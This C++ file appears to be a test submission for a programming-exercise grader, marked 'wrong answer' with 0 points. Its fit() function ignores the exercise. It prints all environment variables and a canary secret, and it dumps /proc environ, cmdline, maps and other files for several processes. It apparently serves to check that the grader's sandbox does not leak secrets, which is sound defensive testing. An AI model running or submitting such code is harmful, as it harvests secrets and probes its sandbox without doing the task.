// Looks for secrets in the environment and the command lines of all processes.
//
// kind: reading
// exercise: 1-cards/01-halves-fit
// outcome: checked
// points: 0
// reasons: wrong answer

#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>

#include "halves_fit.hpp"

bool fit(Half, Half) {
    for (char** variable = environ; *variable != nullptr; ++variable) std::cout << *variable << '\n';
    if (const char* secret = std::getenv("KNOBEL_CANARY"); secret != nullptr) std::cout << secret << '\n';
    for (const std::string process : {"self", "1", "2", "3", "4"})
        for (const std::string file : {"/environ", "/cmdline", "/stat", "/status", "/maps", "/mountinfo", "/cgroup", "/auxv"}) {
            std::ifstream stream("/proc/" + process + file);
            std::cout << std::string(std::istreambuf_iterator<char>(stream), {}).substr(0, 4000) << '\n';
        }
    std::cout << std::flush;
    return true;
}
